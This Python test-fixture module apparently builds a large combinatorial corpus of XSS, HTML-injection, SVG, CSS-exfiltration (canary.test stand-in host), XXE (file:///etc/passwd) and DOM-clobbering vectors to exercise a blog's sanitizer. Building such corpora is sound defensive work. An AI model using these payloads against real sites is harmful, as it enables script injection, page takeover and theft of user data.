"""Markup that tries to run ``alert``, to load something, or to cover the page: combined from parts, not collected.

What is tried in each list is one way past a filter: another element, another event, another spelling of an attribute,
another disguise of a scheme, another parser's idea of where an element ends.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALL = "alert(1)"
CANARY = "https://canary.test/"
"""No page may ask this host for anything that is not a picture, a sound or a film."""

# --- Events: every element that has some, and some that have none, with every event that comes without a reader -------

ELEMENTS = (
    *("a href=#", "abbr", "article", "audio src=x:", "b", "blockquote", "body", "br", "button autofocus", "canvas"),
    *("details open", "dialog open", "div", "embed src=x:", "fieldset", "font", "form", "frameset", "h2", "hr", "html"),
    *("iframe src=about:blank", "iframe srcdoc=x", "image src=x:", "img src=x:", "img srcset=x:", "input autofocus"),
    *(
        "input type=image src=x:",
        "isindex",
        "keygen autofocus",
        "link rel=stylesheet href=x:",
        "marquee",
        "math",
        "menu",
    ),
    *("meta", "meter", "nav", "nbblog-frame", "nbblog-plotly", "object data=x:", "p", "picture", "portal", "progress"),
    *("script src=x:", "section", "select autofocus", "slot", "source src=x:", "span", "style", "summary", "svg"),
    *("table background=x:", "td", "template", "textarea autofocus", "track src=x:", "video src=x:", "x-y", "xss"),
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onscroll", "onclick")
SPELLINGS = (
    "<{0} {1}={2}>",
    "<{0}/{1}={2}>",
    "<{0}\n{1}\n=\n{2}\n>",
    "<{0}\t{1}='{2}'>",
    '<{0}\f{1}="{2}"/>',
    "<{0} {1}=`{2}`>",
    "<{0} {1}={2}//",
    "<{0} {1}={2} <b>",
    "<<{0} {1}={2}>",
    "<{0} '{1}={2}>",
    '<{0} ">" {1}={2}>',
    '<{0} a=">" {1}={2}>',
    "<{0} a='\"' {1}={2}>",
    "<{0} =x {1}={2}>",
    "<{0} \x00{1}={2}>",
    "<{0} {1}\x00={2}>",
    "<{0} \u00a0 {1}={2}>",
    "<{0} {1}=&#97;lert(1)>",
    "<{0} {1}=\\u0061lert(1)>",
    "<{0} {1}=[1].find(alert)>",
    "<{0} {1}=alert&lpar;1&rpar;>",
    "<{0} {1}=top[`al`+`ert`](1)>",
    "</{0} {1}={2}>",
    "<\x00{0} {1}={2}>",
    "< {0} {1}={2}>",
    "&lt;{0} {1}={2}&gt;",
    "\\<{0} {1}={2}>",
    "\ufe64{0} {1}={2}\ufe65",
)


def write_events() -> Iterator[str]:
    """Each element with each event, then the odd spellings of a few."""
    for element, event in product(ELEMENTS, EVENTS):
        yield f"<{element} {event}={CALL}>x"
    for spelling, element in product(SPELLINGS, ("img src=x:", "svg", "details open", "video src=x:")):
        name, _, rest = element.partition(" ")
        yield spelling.format(element, "OnErRoR" if name == "img" else "ONLOAD", CALL)
        yield spelling.format(name.upper(), f"{rest} onerror", CALL)


# --- Scripts ----------------------------------------------------------------------------------------------------------


def write_scripts() -> Iterator[str]:
    """Elements that run code or bring a document of their own."""
    for start in (
        "<script>",
        "<SCRIPT >",
        "<script/x>",
        "<script\n>",
        "<script type=module>",
        "<script\x00>",
        "<scr<script>ipt>",
    ):
        for end in ("</script>", "</script >", "</SCRIPT\n>", "</script/x>", "", "<!--", "//--></script>"):
            yield f"{start}{CALL}{end}"
    document = f"<script>{CALL}</script>"
    quoted = document.replace("<", "&lt;")
    yield from (
        f"<script src={CANARY}x.js></script>",
        f"<script src=data:text/javascript,{CALL}></script>",
        f"<svg><script>{CALL}</script></svg>",
        f"<svg><script href=data:,{CALL}></script></svg>",
        f"<svg><script xlink:href='data:,{CALL}'/></svg>",
        f"<math><script>{CALL}</script></math>",
        f"<iframe srcdoc='{document}'></iframe>",
        f"<iframe srcdoc='{quoted}'></iframe>",
        f"<iframe src='data:text/html,{document}'></iframe>",
        f"<object data='data:text/html,{document}'></object>",
        f"<embed src='data:text/html,{document}'>",
        f"<object><param name=code value={CANARY}></object>",
        f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
        f"<meta http-equiv=refresh content='0;url={CANARY}'>",
        f"<base href={CANARY}>",
        f"<link rel=import href={CANARY}>",
        f"<link rel=stylesheet href={CANARY}>",
        f"<link rel=prefetch href={CANARY}>",
        f"<?xml version='1.0'?><?xml-stylesheet href={CANARY}?><x>{document}</x>",
        f"<![CDATA[{document}]]>",
        f"<!DOCTYPE x [<!ENTITY e '{document}'>]>&e;",
        f"<svg><animate attributeName=href values=javascript:{CALL} /><a id=x><text>x</text></a></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'></use></svg>",
        f"<svg><foreignObject><iframe srcdoc='{quoted}'></iframe></foreignObject></svg>",
        f"<template shadowrootmode=open>{document}</template>",
        f"<div><template shadowrootmode=open><img src=x: onerror={CALL}></template></div>",
        f"<form action=javascript:{CALL}><button>x</button></form>",
        f"<form id=f></form><button form=f formaction=javascript:{CALL}>x</button>",
        "<div data-slot=0></div><span data-slot='0'></span>",
        '<div data-slot="0"></div><div data-slot="1"></div><span data-slot="2"></span>',
        f'<nbblog-mermaid class="nb-mermaid">graph TD; A["<img src=x: onerror={CALL}>"]</nbblog-mermaid>',
        f'<nbblog-frame data-src="{CANARY}"></nbblog-frame>',
        f'<div class="nb-embed" data-src="{CANARY}"><a href="{CANARY}">x</a></div>',
        f'<script type="application/json">{{"a": "</script>{document}"}}</script>',
    )


# --- Nesting: where two parsers disagree about what is text ----------------------------------------------------------

OUTER = (
    "<{0}>{1}</{0}>",
    "<math><{0}>{1}</{0}></math>",
    "<svg><{0}>{1}</{0}></svg>",
    "<math><mtext><table><mglyph><{0}>{1}</{0}>",
    "<svg></p><{0}>{1}</{0}>",
    "<form><math><mtext></form><form><mglyph><{0}>{1}</{0}></form>",
    "<table><tr><{0}>{1}</{0}></tr></table>",
    "<p><select><{0}>{1}</{0}></select></p>",
    "<math><annotation-xml encoding=text/html><{0}>{1}</{0}></annotation-xml></math>",
    "<details><summary><{0}>{1}</{0}></summary></details>",
    "<svg><desc><{0}>{1}</{0}></desc></svg>",
    "<a><a><{0}>{1}</{0}></a></a>",
    "<h1><h2><{0}>{1}</{0}></h1>",
)
RAW_TEXT = (
    "style",
    "title",
    "textarea",
    "noscript",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "template",
    "plaintext",
    "p",
)
INNER = (
    '<a title="</{0}><img src=x: onerror=alert(1)>">',
    "<!--</{0}><img src=x: onerror=alert(1)>-->",
    "<!--><img src=x: onerror=alert(1)>",
    "<!--!><img src=x: onerror=alert(1)>--!>",
    "<![CDATA[</{0}><img src=x: onerror=alert(1)>]]>",
    "&lt;/{0}&gt;&lt;img src=x: onerror=alert(1)&gt;",
    "<b id='--&gt;&lt;/{0}&gt;&lt;img src=x: onerror=alert(1)&gt;'>",
)


def write_nestings() -> Iterator[str]:
    """Payloads in attributes and comments inside elements whose content is text for one parser and not for another."""
    for outer, name, inner in product(OUTER, RAW_TEXT, INNER):
        yield outer.format(name, inner.format(name))


# --- Addresses --------------------------------------------------------------------------------------------------------

DISGUISES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "\x01javascript:{0}",
    "\x1fjavascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "java\r\nscript:{0}",
    "javascript\t:{0}",
    "\u200bjavascript:{0}",
    "\u00adjavascript:{0}",
    "\ufeffjavascript:{0}",
    "java\x00script:{0}",
    "&#106;avascript:{0}",
    "&#x6A&#x61vascript:{0}",
    "&#0000106avascript:{0}",
    "javascript&colon;{0}",
    "javascript&#58;{0}",
    "java&Tab;script:{0}",
    "java&NewLine;script:{0}",
    "javascript%3A{0}",
    "%6aavascript:{0}",
    "\uff4aavascript:{0}",
    "javascript\uff1a{0}",
    "javascript://%0a{0}",
    "javascript://x.org/%0a{0}",
    "javascript:javascript:{0}",
    "\\javascript:{0}",
    "x:javascript:{0}",
    "view-source:javascript:{0}",
    "feed:javascript:{0}",
    "vbscript:{0}",
    "livescript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={0}>",
    "data:,{0}",
    "blob:https://x.test/1",
    "file:///etc/passwd",
    "filesystem:https://x.test/temporary/x",
)
ADDRESSED = (
    '<a href="{0}">x</a>',
    "<a href={0}>x</a>",
    "<a href='{0}' target=_top ping=https://canary.test/>x</a>",
    '<area href="{0}">',
    '<img src="{0}">',
    '<img src="{0}" alt="x" longdesc="{0}" usemap="#m">',
    '<img srcset="{0} 1x, {0} 2x">',
    '<video src="{0}" poster="{0}" controls></video>',
    '<audio controls><source src="{0}" type="audio/mpeg"></audio>',
    '<video><track src="{0}" kind=subtitles></video>',
    '<picture><source srcset="{0}"><img src=x:></picture>',
    '<svg><a href="{0}"><text>x</text></a></svg>',
    '<svg><a xlink:href="{0}"><text>x</text></a></svg>',
    '<math href="{0}"><mi href="{0}" xlink:href="{0}">x</mi></math>',
    '<form action="{0}"><input type=submit formaction="{0}"></form>',
    '<iframe src="{0}"></iframe>',
    '<object data="{0}" codebase="{0}"></object>',
    '<embed src="{0}">',
    '<blockquote cite="{0}">x</blockquote><q cite="{0}">x</q><del cite="{0}">x</del>',
    '<table background="{0}"><td background="{0}">x</table>',
    '<input type="image" src="{0}">',
    '<a href="#" xml:base="{0}">x</a>',
    '<body background="{0}">',
    '<link rel="stylesheet" href="{0}">',
    '<base href="{0}">',
)
LINKED = (
    "[x]({0})",
    "[x](<{0}>)",
    '[x]({0} "title")',
    "[x][r]\n\n[r]: {0}",
    "[x][r]\n\n[r]: <{0}>",
    "<{0}>",
    "![x]({0})",
    "![x](<{0}>){{onclick=alert(1) href={0}}}",
    "[![x](x.png)]({0})",
    "[[image:{0}|alt|link={0}]]",
    "[[image:x.png|x|href={0}|caption=[y]({0})]]",
    "[[video:{0}]]",
    "[[audio:{0}]]",
    "[[embed:{0}]]",
    '[[embed:https://www.youtube.com/embed/"onload=alert(1)?{0}]]',
    "[[file:{0}|x]]",
    "[[post:{0}]]",
    "[x]({0}){{onclick=alert(1) style=position:fixed id=nb-main .nb-site}}",
    "$\\href{{{0}}}{{x}}$",
    "$$\\href{{{0}}}{{x}} \\url{{{0}}} \\includegraphics{{{0}}}$$",
    "[^a]\n\n[^a]: [x]({0})",
)


def write_addresses() -> Iterator[str]:
    """Each element with an address, with each disguise of a scheme that runs."""
    for element, disguise in product(ADDRESSED, DISGUISES):
        yield element.format(disguise.format(CALL))


def write_links() -> Iterator[str]:
    """Each construct of Markdown with an address, with each disguise."""
    for link, disguise in product(LINKED, DISGUISES):
        yield link.format(disguise.format(CALL))


# --- Style ------------------------------------------------------------------------------------------------------------

DECLARATIONS = (
    "position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999",
    "POSITION : absolute ; inset:0",
    "po/**/sition:fixed",
    "\\70osition:fixed;inset:0",
    "&#112;osition:fixed;inset:0",
    "color:red;/*;*/position:sticky;top:0",
    "background:url(https://canary.test/)",
    "background:URL( 'https://canary.test/' )",
    "background:u\\72l(https://canary.test/)",
    "background-image:image-set('https://canary.test/' 1x)",
    "list-style:url(https://canary.test/)",
    "border-image:url(https://canary.test/) 1",
    "font-family:x;src:url(https://canary.test/)",
    "cursor:url(https://canary.test/),auto",
    "content:url(https://canary.test/)",
    "behavior:url(https://canary.test/)",
    "-moz-binding:url(https://canary.test/)",
    "width:expression(alert(1))",
    "background:url(javascript:alert(1))",
    "margin:-999em 0 0 -999em",
    "margin-top:calc(0px - 999em)",
    "transform:translate(-999px,-999px) scale(99)",
    "--nb-accent:red;--nb-width:9999px",
    "color:var(--nb-paper)",
    "animation:x 1s;animation-name:nb",
    "filter:url(https://canary.test/)",
    "display:block;float:none;top:0;mix-blend-mode:difference",
    "view-transition-name:x;anchor-name:--x",
    "color:red}body{display:none",
    "color:'}</style><script>alert(1)</script>'",
)
SHEETS = (
    "<style>@import '{0}';</style>",
    "<style>*{{background:url({0})}}</style>",
    "<style>body{{display:none!important}}</style>",
    "<style>input[value^=a]{{background:url({0})}}</style>",
    "<style>@font-face{{font-family:x;src:url({0})}}*{{font-family:x}}</style>",
    "<svg><style>*{{background:url({0})}}</style></svg>",
    "<style></style\n><style>header.nb-site{{display:none}}</style>",
    "<link rel=stylesheet href={0}>",
    "<style>#T_1 td{{background:url({0});position:fixed}}</style><table id=T_1><td>x</table>",
    "<style>#T_1 td{{color:red}}}}</style><style>body{{display:none}}</style><table id=T_1><td>x</table>",
)


def write_styles() -> Iterator[str]:
    """Declarations that cover, load or run, on elements and in style sheets."""
    for declaration, element in product(
        DECLARATIONS, ("div", "a href=https://canary.test/", "img src=x: alt=x", "td", "nav")
    ):
        yield f'<{element} style="{declaration}">x</{element.split()[0]}>'
        yield f"<{element} style='{declaration} !important'>x"
    yield from (sheet.format(CANARY) for sheet in SHEETS)


# --- What only the blog's own marks can say ---------------------------------------------------------------------------

BREAKOUTS = (
    "<img src=x: onerror=alert(1)>",
    '"><img src=x: onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</p></div></article></main><script>alert(1)</script>",
    "</title></style></textarea></script><script>alert(1)</script>",
    '" onfocus="alert(1)" autofocus="',
    "' onerror='alert(1)' x='",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "${alert(1)}{{7*7}}{% raw %}<%= 1 %>",
    "&lt;img src=x: onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;",
    '\\"><script>alert(1)</script>',
    "\u2028alert(1)//\u2029</script>",
    "`\"'><b onclick=alert(1)>",
    "\x00<script\x00>alert(1)</script>",
    "]]|caption=<img src=x: onerror=alert(1)>",
    "}{onclick=alert(1)}",
    "javascript:alert(1)",
    "\u202e<script>alert(1)</script>",
)
MARKS = (
    "[[image:x.png|{0}]]",
    "[[image:https://x.test/a.png|{0}|caption={0}|width={0}]]",
    "[[image:https://x.test/{0}.png|x|width=50%|{0}=1|class={0}]]",
    "[[video:https://x.test/a.mp4?{0}|{0}|poster={0}]]",
    "[[embed:https://youtu.be/{0}|{0}]]",
    "[[file:{0}|{0}]]",
    "[[post:{0}|{0}]]",
    "[[{0}:{0}|{0}]]",
    '![{0}](https://x.test/{0} "{0}"){{width={0} onload=alert(1) style="{0}"}}',
    "[{0}](https://x.test/{0} '{0}')",
    "# {0} {{#{0} .{0} onclick={0}}}\n\n[[toc]]",
    "[x[^{0}]][^n] [^{0}]\n\n[^{0}]: {0}\n[^n]: {0}",
    "> [!NOTE] {0}\n> {0}",
    "> [!{0}]\n> x",
    ':::{{.callout-{0} title="{0}" onclick=alert(1)}}\n{0}\n:::',
    "```{{{0}}}\n{0}\n```",
    "```{0}\n{0}\n```",
    "```{{note}} {0}\n:class: {0}\n{0}\n```",
    "~~~python {{onclick=alert(1) title={0}}}\n{0}\n~~~",
    "| {0} | [x]({0}) |\n|:-|-:|\n| `{0}` | {0} |\n: {0} {{#{0}}}",
    "$ {0} $ and $$ {0} $$",
    "$\\htmlData{{x={0}}}{{x}} \\htmlStyle{{{0}}}{{x}} \\htmlId{{nb-main}}{{x}} \\text{{{0}}}$",
    '```mermaid\ngraph TD; A["{0}"] --> B; click A "javascript:alert(1)"\n```',
    "- [ ] {0}\n- [x] {0}\n    1. {0}",
    "`{0}` ``{0}`` *{0}* ~~{0}~~ =={0}== ^{0}^",
    "<!-- {0} -->{0}<!-- -->",
    "term\n: {0}\n\n*[{0}]: {0}",
    "@{0} :{0}: www.{0}.org https://x.test/{0}",
    "---\ntitle: {0}\n---",
)


def write_marks() -> Iterator[str]:
    """Each mark of ours and of Markdown with each way out of an attribute, an element or a comment inside."""
    for mark, breakout in product(MARKS, BREAKOUTS):
        yield mark.replace("{0}", breakout).replace("{{", "{").replace("}}", "}")


TERMINAL = (
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b]8;;https://canary.test/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    '\x1b[38;2;1;2;3;"onload=alert(1)m<img src=x: onerror=alert(1)>',
    "\x1b[38;5;999999m\x1b[48;2;999;999;999mx",
    "\x1b]0;title</title><script>alert(1)</script>\x07x",
    "\x1b[2J\x1b[H\x1bP+q\x1b\\x",
    "\x9b31mx\x9d8;;javascript:alert(1)\x9c",
    "<\x1b[1mscript>alert(1)</\x1b[1mscript>",
    "<\bscript>alert(1)\r</script>",
)

DRAWINGS = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)' width='9' height='9'>{0}<rect width='9'/></svg>",
    "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>"
    "{0}<text>&e;</text></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>{0}</svg>",
    "<x:svg xmlns:x='http://www.w3.org/2000/svg'>{0}</x:svg>",
)
DRAWN = (
    "<script>alert(1)</script>",
    "<script href='data:,alert(1)'/>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'><iframe src='https://canary.test/'/></body></foreignObject>",
    "<a href='javascript:alert(1)'><text y='9'>x</text></a>",
    "<a xlink:href='java&#10;script:alert(1)'><text y='9'>x</text></a>",
    "<image href='https://canary.test/a.png' onerror='alert(1)'/>",
    "<use href='https://canary.test/a.svg#x'/>",
    "<animate attributeName='onload' to='alert(1)'/><set attributeName='href' to='javascript:alert(1)'/>",
    "<style>@import url(https://canary.test/);*{background:url(https://canary.test/)}</style>",
    "<rect fill='url(https://canary.test/#x)' style='filter:url(https://canary.test/#x)'/>",
    "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
    "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler>",
    "<metadata><script>alert(1)</script></metadata>",
    "]]><script>alert(1)</script>",
)


def write_drawings() -> Iterator[str]:
    """SVG documents that act when they are opened."""
    for outer, inner in product(DRAWINGS, DRAWN):
        yield outer.format(inner)


CLOBBERED = (
    *("body", "head", "documentElement", "currentScript", "querySelector", "querySelectorAll", "getElementById"),
    *("createElement", "dataset", "children", "defaultView", "location", "cookie", "forms", "images", "scripts"),
    *("localStorage", "matchMedia", "self", "parent", "top", "origin", "console", "Object", "JSON", "Promise"),
    *("Plotly", "vega", "vegaLite", "vegaInterpreter", "mermaid", "draws", "loads", "load", "near", "root", "system"),
    *("search", "theme", "scheme", "words", "all", "make", "live", "dark", "rail", "nb-main", "nb-scheme", "nbblog"),
    *("addEventListener", "innerHTML", "attributes", "parentNode", "__proto__", "constructor", "toString", "x"),
)
"""What a script might look up by name."""


def write_clobbers() -> Iterator[str]:
    """Elements that would stand for a variable or a property of the document."""
    for name in CLOBBERED:
        yield f"<img name={name} src=x: alt=x><img id={name} name={name} src=x: alt=x>"
        yield f"<form id={name} name={name}><input id=attributes name=children><input name=parentNode></form>"
        yield f"<a id={name}></a><a id={name} name={name} href=https://x.test/>x</a>"
        yield f"<object id={name}></object><embed name={name}><iframe name={name}></iframe><p name={name}>x</p>"


BORROWED = (
    "nb-site nb-toc nb-main nb-article nb-scheme nb-skip nb-foot",
    *("nb-figure", "nb-code-head", "nb-code", "nb-embed", "nb-alert", "nb-notes nb-note-ref", "nb-video", "nb-gallery"),
    *(
        "nb-table",
        "nb-fold",
        "nb-file",
        "nb-anchor",
        "nb-math-block",
        "nb-output nb-plotly nb-frame",
        "nb-live nb-copy",
    ),
)


def write_borrowed() -> Iterator[str]:
    """Elements of the wrong kind, and with the wrong content, under class names of the theme's."""
    for names in BORROWED:
        yield f'<div class="{names}"><a href="#"><img src="https://x.test/a.png" alt="x"></a><details>x</details></div>'
        yield f'<h2 class="{names}" id="nb-main">x</h2><section class="{names}"><ol><li id="note-1">x</ol></section>'


def write_markup() -> list[str]:
    """All HTML, some 2,500 vectors."""
    parts = (write_events(), write_scripts(), write_nestings(), write_addresses(), write_styles())
    return [vector for part in parts for vector in part]
